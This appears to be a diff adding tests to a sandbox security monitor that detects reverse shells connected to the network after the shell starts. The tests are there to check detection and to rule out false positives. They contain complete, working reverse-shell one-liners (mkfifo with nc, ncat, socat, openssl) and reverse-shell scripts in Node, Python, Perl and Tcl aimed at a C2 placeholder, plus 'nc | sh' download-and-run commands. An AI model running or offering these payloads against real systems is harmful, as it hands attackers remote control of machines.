@@ -33,7 +33,7 @@ from corral.monitors import resource
 from corral.monitors.gpu import GpuMonitor
 from fakenvml import FakeNvml
 from helpers import wait_until
-from servers import LocalUpstream, tcp_listener
+from servers import LocalUpstream, package_index, tcp_listener, tls_listener
 
 pytestmark = pytest.mark.root
 
@@ -298,6 +298,227 @@ def test_a_shell_wired_to_the_network_is_caught_at_its_exec(kind: str, rule: str
             assert a.process.cmdline[0] == "/bin/sh"
             # The evidence names who wired it: python3 rs.py, the shell's parent.
             assert any(p.cmdline[:2] == ["python3", "rs.py"] for p in a.evidence.processes)
+
+
+# Reverse shells wired after the shell's execve, under a policy that lets the agent reach the
+# listener: only the tripwires stand between it and a working shell. The greeting is the attacker's
+# first command; each client waits so that the shell starts before its relay has connected.
+GREETING = b"echo wired-$((6*7))\n"
+FIFO = "mkfifo /tmp/f; {shell} </tmp/f 2>&1 | {client} >/tmp/f"
+WIRED_LATER = {
+    "fifo nc": FIFO.format(shell="sh -i", client=f"sh -c 'sleep 0.5; exec nc {C2} 4444'"),
+    "fifo ncat": FIFO.format(shell="sh -i", client=f"sh -c 'sleep 0.5; exec ncat {C2} 4444'"),
+    "fifo socat": FIFO.format(shell="sh -i", client=f"sh -c 'sleep 0.5; exec socat - TCP:{C2}:4444'"),
+    "fifo python as the shell": FIFO.format(
+        shell="python3 -i", client=f"sh -c 'sleep 0.5; exec nc {C2} 4444'"
+    ),
+    "fifo openssl": FIFO.format(
+        shell="sh -i", client=f"sh -c 'sleep 0.5; exec openssl s_client -quiet -connect {C2}:4444'"
+    ),
+    "fifo ncat --ssl": FIFO.format(shell="sh -i", client=f"sh -c 'sleep 0.5; exec ncat --ssl {C2} 4444'"),
+    "node": "node rs.js",
+    "python": "python3 rs.py",
+    "perl": "perl rs.pl",
+    "tcl": "tclsh rs.tcl",
+    "perl on its own socket": "perl own.pl",
+}
+SCRIPTS = {
+    # child_process gives the shell socketpairs for stdio; the connection comes after the spawn.
+    "rs.js": f"""
+const net = require("net"), cp = require("child_process");
+const sh = cp.spawn("/bin/sh", []);
+setTimeout(() => {{
+  const c = net.connect(4444, "{C2}", () => {{ c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c); }});
+}}, 500);
+""",
+    "rs.py": f"""
+import socket, subprocess, threading, time
+sh = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
+time.sleep(0.5)
+s = socket.create_connection(("{C2}", 4444))
+def back():
+    while data := sh.stdout.read1(4096):
+        s.sendall(data)
+threading.Thread(target=back, daemon=True).start()
+while data := s.recv(4096):
+    sh.stdin.write(data); sh.stdin.flush()
+""",
+    "rs.pl": f"""
+use IPC::Open2; use IO::Socket::INET;
+my $pid = open2(my $out, my $in, "/bin/sh");
+select(undef, undef, undef, 0.5);
+my $c = IO::Socket::INET->new(PeerAddr => "{C2}", PeerPort => 4444) or die "connect: $!";
+if (fork()) {{ while (sysread($c, my $b, 4096)) {{ syswrite($in, $b) }} }}
+else {{ while (sysread($out, my $b, 4096)) {{ syswrite($c, $b) }} }}
+""",
+    "rs.tcl": f"""
+set sh [open "|/bin/sh 2>@1" r+]
+after 500
+set s [socket {C2} 4444]
+fconfigure $sh -blocking 0 -buffering none
+fconfigure $s -blocking 0 -buffering none
+fileevent $s readable {{ if {{[eof $s]}} {{ exit }}; puts -nonewline $sh [read $s] }}
+fileevent $sh readable {{ if {{[eof $sh]}} {{ exit }}; puts -nonewline $s [read $sh] }}
+vwait forever
+""",
+    # No shell at all: the interpreter moves its own stdin and stdout onto the connection and
+    # evaluates what arrives (the greeting's arithmetic is perl too).
+    "own.pl": f"""
+use IO::Socket::INET;
+select(undef, undef, undef, 0.5);
+my $c = IO::Socket::INET->new(PeerAddr => "{C2}", PeerPort => 4444) or die "connect: $!";
+open(STDIN, "<&", $c); open(STDOUT, ">&", $c); $| = 1;
+while (my $line = <STDIN>) {{ print eval($line), "\n"; }}
+""",
+}
+WIRED_RULES = ("shell relayed to the network after it started", "shell wired to a socket after it started")
+
+
+@pytest.mark.parametrize("kind", list(WIRED_LATER))
+def test_a_shell_wired_to_the_network_after_its_exec_terminates_the_sandbox(kind: str) -> None:
+    tls = "openssl" in kind or "--ssl" in kind
+    listener = tls_listener(C2, GREETING) if tls else tcp_listener(GREETING)
+    with listener as c2:
+        up = LocalUpstream({4444: c2.port})
+        with Sandbox(net_policy(4444), keep_workspace=False, upstream=up) as sb:
+            for name, text in SCRIPTS.items():
+                sb.write_file(name, text)
+            started = time.monotonic()
+            r = sb.exec(WIRED_LATER[kind], timeout=20)
+            assert r.terminated == "tripwire", (r, [a.rule for a in sb.alerts()])
+            assert sb.closed
+            [a] = [a for a in sb.alerts() if a.category == "reverse_shell"]
+            assert a.rule in WIRED_RULES and a.action == "terminate", a
+            # Within a second or so of the wiring (0.5 s after the start here), on a shared machine.
+            assert time.monotonic() - started < 5
+            assert a.evidence.trigger["evt.type"] == "proc.sample"
+            assert a.evidence.trigger["proc.stdin_net"] in ("socket", "relay")
+
+
+def test_benign_pipes_next_to_connections_are_not_a_reverse_shell(tmp_path: Path) -> None:
+    # pip's way of building a package: a child interpreter with pipes both ways to a parent that
+    # holds a connection; the child runs a named script, so it is not a shell taking orders.
+    child = "import sys, time\ntime.sleep(1)\nsys.stdout.write(sys.stdin.read().upper())\n"
+    parent = f"""
+import socket, subprocess, sys
+s = socket.create_connection(("{C2}", 4444))
+p = subprocess.run([sys.executable, "child.py"], input=b"built", capture_output=True)
+print(p.stdout.decode())
+"""
+    index_name = "packages.example.internal"
+    with tcp_listener(b"echo ran\n") as c2, package_index(tmp_path / "index") as index:
+        up = LocalUpstream({4444: c2.port, 80: index.port})
+        pol = Policy.from_dict(
+            {
+                "version": 1,
+                "network": {
+                    "egress": [
+                        {"host": C2, "ports": [4444], "protocols": ["any"]},
+                        {"host": index_name, "ports": [80], "protocols": ["http"]},
+                    ],
+                    "hosts": {C2: "127.0.0.1", index_name: "127.0.0.1"},
+                },
+            }
+        )
+        with Sandbox(pol, keep_workspace=False, upstream=up) as sb:
+            sb.write_file("child.py", child)
+            sb.write_file("parent.py", parent)
+            r = sb.exec("python3 parent.py", timeout=20, text=True)
+            assert r.exit_code == 0 and r.stdout == "BUILT\n", r
+            # curl URL | sh: a download run, its output going to the caller, not back to the network
+            # (the connection stays open for a few samples). Then an interpreter reading a download.
+            r = sb.exec(f"timeout 1.5 nc --recv-only {C2} 4444 | sh", timeout=20, text=True)
+            assert not r.terminated and r.stdout == "ran\n", r
+            # The same with the download connected before the shell's exec.
+            r = sb.exec(f"timeout 1.5 nc --recv-only {C2} 4444 | (sleep 0.5; exec sh)", timeout=20, text=True)
+            assert not r.terminated and r.stdout == "ran\n", r
+            r = sb.exec(
+                f"timeout 1.5 nc --recv-only {C2} 4444 | python3 -c 'import sys; print(sys.stdin.read())'"
+            )
+            assert not r.terminated, r
+            # make, its recipes piped through shells, next to a live connection.
+            sb.write_file("Makefile", "all:\n\techo one | tr a-z A-Z | cat\n\tsh -c 'sleep 1' | cat\n")
+            r = sb.exec(f"timeout 3 nc --recv-only {C2} 4444 >/dev/null & make", timeout=20, text=True)
+            assert r.exit_code == 0, r
+            r = sb.exec(
+                f"python3 -m pip install -q --disable-pip-version-check --no-cache-dir --target /tmp/site "
+                f"--trusted-host {index_name} --index-url http://{index_name}/simple/ corral-probe",
+                text=True,
+                timeout=120,
+            )
+            assert r.exit_code == 0, r
+        assert not [a for a in sb.alerts() if a.category == "reverse_shell"], sb.alerts()
+
+
+def test_the_wiring_check_follows_pipes_fifos_and_socketpairs_in_the_right_direction(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # On the host, without a sandbox: `relay` holds a connection and the ends given to it.
+    relay_code = (
+        "import socket, sys, time\n"
+        "s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\n"
+        "fifo = open(sys.argv[2], 'wb') if len(sys.argv) > 2 else None\n"
+        "time.sleep(30)\n"
+    )
+    fifo = tmp_path / "f"
+    os.mkfifo(fifo)
+    procs: list[subprocess.Popen[bytes]] = []
+
+    def spawn(argv: list[str], **kw: Any) -> subprocess.Popen[bytes]:
+        procs.append(subprocess.Popen(argv, **kw))
+        return procs[-1]
+
+    with tcp_listener() as c2:
+        try:
+            # A pipe both ways to the relay, as a reverse shell has: its stdin is written by the
+            # relay, its stdout read by it.
+            a_in, relay_out = os.pipe()
+            relay_in, a_out = os.pipe()
+            shell = spawn(["sleep", "30"], stdin=a_in, stdout=a_out)
+            relay = spawn([sys.executable, "-c", relay_code, str(c2.port)], stdin=relay_in, stdout=relay_out)
+            # Siblings writing into one pipe: the other writer's connection is not where output goes.
+            sib_r, sib_w = os.pipe()
+            writer = spawn(["sleep", "30"], stdout=sib_w)
+            networked = spawn([sys.executable, "-c", relay_code, str(c2.port)], stdout=sib_w)
+            # A fifo the relay writes into, opened by path: it shows as a path, not pipe:[N].
+            fifo_reader = spawn(["sh", "-c", f"exec sleep 30 <{fifo}"])
+            spawn([sys.executable, "-c", relay_code, str(c2.port), str(fifo)])
+            for fd in (a_in, relay_out, relay_in, a_out, sib_w):
+                os.close(fd)
+            assert wait_until(lambda: len(c2.connections) == 3, timeout=10)
+            pids = [p.pid for p in procs]
+            wiring = pm.Wiring(lambda: pids)
+            assert (wiring.stdin(shell.pid), wiring.stdout(shell.pid)) == ("relay", "relay")
+            assert wiring.stdio(shell.pid)[:2] == ["pipe", "pipe"]
+            # The relay's own stdio leads to the shell, which holds no connection.
+            assert (wiring.stdin(relay.pid), wiring.stdout(relay.pid)) == ("none", "none")
+            assert wiring.stdout(writer.pid) == "none"
+            assert wait_until(lambda: pm.Wiring(lambda: pids).stdin(fifo_reader.pid) == "relay")
+            assert wiring.stdio(fifo_reader.pid)[0] == "fifo"
+            # Under a small per-round budget the fd tables are read in turns: the relay is reached
+            # within a few rounds, each round going on where the last stopped.
+            monkeypatch.setattr(pm, "WIRING_ROUND_FDS", 4)
+            first = pm.Wiring(lambda: pids)
+            first.stdin(shell.pid)
+            cursor, rounds = first.resume_at, 0
+            assert cursor > 0  # cut short
+            while rounds < 3 * len(pids):
+                w = pm.Wiring(lambda: pids, start=cursor)
+                rounds += 1
+                if w.stdin(shell.pid) == "relay":
+                    break
+                cursor = w.resume_at
+            assert 1 < rounds < 3 * len(pids), rounds
+            monkeypatch.undo()
+            # Only processes of the sandbox count: without the relay in the list, nothing leads out.
+            alone = pm.Wiring(lambda: [shell.pid])
+            assert (alone.stdin(shell.pid), alone.stdout(shell.pid)) == ("none", "none")
+            assert networked.poll() is None
+            os.close(sib_r)
+        finally:
+            for p in procs:
+                p.kill()
+                p.wait()
 
 
 def test_a_probe_alerts_at_the_first_attempt_with_the_connection_as_evidence() -> None:
